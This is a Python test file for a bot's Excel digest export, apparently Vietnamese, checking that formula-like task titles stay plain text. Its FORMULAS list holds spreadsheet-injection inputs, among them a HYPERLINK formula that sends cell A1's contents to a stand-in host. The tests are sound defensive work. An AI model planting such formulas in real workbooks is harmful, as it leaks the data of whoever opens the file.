"""Workbook cells are data: a task title that looks like a formula stays text, and the file is
one Excel and openpyxl read as the digest's table."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from zoneinfo import ZoneInfo

import pytest
from lxml import etree
from openpyxl import load_workbook

from bot.digest.model import Digest, Listing, PlanSummary, Standing, StandingCounts
from bot.digest.queries import TaskRow
from bot.digest.xlsx import digest_workbook
from bot.digest.xlsxfile import CellStyle, Workbook, column_letter

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
AS_OF = dt.date(2026, 11, 20)
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?q="&A1, "Bấm vào đây")',
    "+84 912 345 678",
    "-1+2",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


def digest(titles: list[str]) -> tuple[Digest, dict[str, list[TaskRow]]]:
    counts = StandingCounts(open_in_time=len(titles))
    plan = PlanSummary("kh", "=1+1/KH", "+Kế hoạch", dt.datetime(2026, 11, 1, tzinfo=dt.UTC), counts)
    rows = [
        TaskRow(
            position=number,
            key=str(number),
            title=title,
            lead_unit="=Sở Tài chính",
            support_units=["@Sở A", "Sở B"],
            due=None,
            timing="-Thường xuyên",
            standing=Standing.OPEN_IN_TIME,
            status="in_progress",
            percent=None,
            last_update_at=None,
        )
        for number, title in enumerate(titles, 1)
    ]
    built = Digest(
        as_of=AS_OF,
        since=dt.datetime(2026, 11, 13, tzinfo=dt.UTC),
        recipient=None,
        plans=[plan],
        totals=counts,
        units=[],
        overdue=Listing(),
        due_soon=Listing(),
        updates=Listing(),
        reports=[],
        missing_reports=Listing(),
        silent_units=Listing(),
        failed=Listing(),
    )
    return built, {"kh": rows}


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    built, tasks = digest(FORMULAS)
    data = digest_workbook(built, tasks, lang="vi", tz=TZ)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and all(
            b"<f>" not in archive.read(name) and b"<f " not in archive.read(name) for name in sheets
        )
    book = load_workbook(io.BytesIO(data))
    sheet = book["=1+1-KH"]
    titles = [row[1] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert titles == FORMULAS
    for row in sheet.iter_rows(min_row=3):
        for cell in (row[1], row[2], row[3], row[4]):
            assert cell.data_type == "s"
            # Quote prefixed: Excel keeps it text even when the cell is edited.
            assert cell.quotePrefix, cell.coordinate
    assert sheet["C3"].value == "=Sở Tài chính" and sheet["D3"].value == "@Sở A; Sở B"
    assert sheet["E3"].value == "-Thường xuyên"
    summary = book["Tổng hợp"]
    assert summary["A3"].value == "=1+1/KH — +Kế hoạch" and summary["A3"].data_type == "s"


def test_plain_text_is_not_quote_prefixed_and_numbers_stay_numbers() -> None:
    built, tasks = digest(["Rà soát thủ tục hành chính", "Số 2 - tiếp"])
    book = load_workbook(io.BytesIO(digest_workbook(built, tasks, lang="vi", tz=TZ)))
    sheet = book["=1+1-KH"]
    assert [sheet["B3"].quotePrefix, sheet["B4"].quotePrefix] == [False, False]
    assert sheet["A3"].value == 1 and sheet["A3"].data_type == "n"


def test_characters_xml_cannot_hold_are_dropped_not_fatal() -> None:
    built, tasks = digest(["Bước\x07 một\x00", "  lề  ", "dòng 1\ndòng 2"])
    book = load_workbook(io.BytesIO(digest_workbook(built, tasks, lang="vi", tz=TZ)))
    sheet = book["=1+1-KH"]
    assert [sheet["B3"].value, sheet["B4"].value, sheet["B5"].value] == [
        "Bước một",
        "  lề  ",
        "dòng 1\ndòng 2",
    ]


def test_every_part_is_well_formed_xml() -> None:
    built, tasks = digest([*FORMULAS, "<b>&amp;</b> \"'"])
    with zipfile.ZipFile(io.BytesIO(digest_workbook(built, tasks, lang="en", tz=TZ))) as archive:
        for name in archive.namelist():
            etree.fromstring(archive.read(name))
        workbook = archive.read("xl/workbook.xml").decode()
    assert re.search(r'<definedName name="_xlnm._FilterDatabase" localSheetId="1" hidden="1">', workbook)


def test_dates_numbers_and_styles_read_back() -> None:
    book = Workbook()
    sheet = book.sheet("S", widths=(12, 20), frozen_rows=1)
    date_style = CellStyle(number_format="DD/MM/YYYY")
    moment_style = CellStyle(number_format="DD/MM/YYYY HH:MM", bold=True, fill="DDEBF7", border="999999")
    book.append(sheet, [(dt.date(2026, 1, 2), date_style), (dt.datetime(2026, 11, 17, 14, 30), moment_style)])
    book.append(sheet, [(3.25, CellStyle()), (None, moment_style), (True, CellStyle())])
    loaded = load_workbook(io.BytesIO(book.save()))["S"]
    assert loaded["A1"].value == dt.datetime(2026, 1, 2) and loaded["A1"].is_date
    assert loaded["B1"].value == dt.datetime(2026, 11, 17, 14, 30)
    assert loaded["B1"].font.b and loaded["B1"].fill.fgColor.rgb == "FFDDEBF7"
    assert loaded["B1"].border.left.style == "thin"
    assert (loaded["A2"].value, loaded["B2"].value, loaded["C2"].value) == (3.25, None, True)
    assert loaded.freeze_panes == "A2" and loaded.column_dimensions["B"].width == 20


@pytest.mark.parametrize(("index", "letters"), [(1, "A"), (26, "Z"), (27, "AA"), (52, "AZ"), (703, "AAA")])
def test_column_letters(index: int, letters: str) -> None:
    assert column_letter(index) == letters
